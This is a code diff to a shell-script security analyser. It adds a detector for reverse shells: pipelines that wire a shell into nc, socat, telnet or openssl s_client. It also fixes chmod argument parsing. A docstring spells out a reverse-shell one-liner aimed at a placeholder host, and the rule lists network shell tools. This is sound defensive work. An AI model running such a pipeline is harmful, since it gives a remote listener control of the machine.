@@ -332,6 +332,7 @@ class _Analyser:
                 if part.type == "comment":
                     continue
                 stream = self.exec_node(part, stream)
+            self.check_socket_pipeline(node)
             return stream
         if kind == "redirected_statement":
             return self.exec_redirected(node, stdin)
@@ -360,6 +361,36 @@ class _Analyser:
                 continue
             out = self.exec_node(part, stdin)
         return out
+
+    def check_socket_pipeline(self, node) -> None:
+        """`cat f | sh -i | nc host port > f`: a shell wired into a network connection."""
+        names = []
+
+        def commands(pipeline):
+            for part in pipeline.named_children:
+                cmd = part
+                while cmd is not None and cmd.type == "redirected_statement":
+                    cmd = cmd.child_by_field_name("body") or (cmd.named_children[0] if cmd.named_children else None)
+                if cmd is not None and cmd.type == "pipeline":
+                    yield from commands(cmd)
+                elif cmd is not None and cmd.type == "command":
+                    yield cmd
+
+        for cmd in commands(node):
+            words = [c for c in cmd.named_children if c.type not in ("variable_assignment", "file_redirect",
+                                                                     "heredoc_redirect", "herestring_redirect")]
+            argv = [self.resolve(w.named_children[0] if w.type == "command_name" and w.named_children else w)
+                    for w in words[:8]]
+            argv = self.unwrap(argv, EMPTY, cmd) if argv else argv
+            if argv:
+                names.append((basename(argv[0].text), [a.text for a in argv[1:]]))
+        shell = any(n in SHELLS and not any("c" in a[1:] for a in args if a.startswith("-") and not
+                                            a.startswith("--")) for n, args in names)
+        net = next((n for n, args in names if n in ("nc", "ncat", "netcat", "telnet", "socat") or
+                    n == "openssl" and "s_client" in args), None)
+        if shell and net:
+            self.result.add("BDL405", f"connects a shell to a network connection through a pipe ({net}): a reverse "
+                            "shell gives whoever listens on the other end a shell on this machine", self.snippet(node))
 
     def assign(self, node) -> Word | None:
         name_node = node.child_by_field_name("name") or (node.named_children[0] if node.named_children else None)
@@ -1187,7 +1218,9 @@ class _Analyser:
         paths = [a.text for a in args if not a.text.startswith("-")]
         flags = [a.text for a in args if a.text.startswith("-")]
         if name == "chmod":
-            mode = paths[0] if paths else ""
+            operands = [a.text for a in args if not re.match(r"-[RfvcH]+$|--", a.text)]
+            mode = operands[0] if operands else ""
+            paths = operands
             if re.match(r"[ugoa]*-[rwx]*x|0?[0-7]?[0-6][0-6][0-6]$|[ugoa]*=[rw]*$", mode):
                 for p in paths[1:]:
                     if is_git_hook_path(p):
